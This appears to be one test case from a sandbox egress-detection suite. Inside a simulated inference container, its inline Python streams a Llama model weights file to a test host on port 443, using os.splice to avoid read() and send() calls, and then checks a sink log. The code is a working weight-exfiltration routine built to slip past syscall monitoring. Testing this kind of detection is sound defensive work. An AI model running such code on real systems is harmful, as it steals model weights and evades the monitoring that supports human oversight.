# VN3 EXF-001 zero-copy with splice(): file -> pipe -> socket, no read() or send() of the weights
ctr_run simctr-infer-vn3 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import os, socket, sys
s = socket.create_connection(("10.200.2.2", 443)); f = os.open(sys.argv[1], os.O_RDONLY)
r, w = os.pipe(); n = 0
while k := os.splice(f, w, 1 << 16):
    while k:
        m = os.splice(r, s.fileno(), k); k -= m; n += m
s.close()
print(f"egress-expect proto=tcp origin=connect dport=443 bytes={n}")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
grep ':443' "$H/sink.log" | tail -1
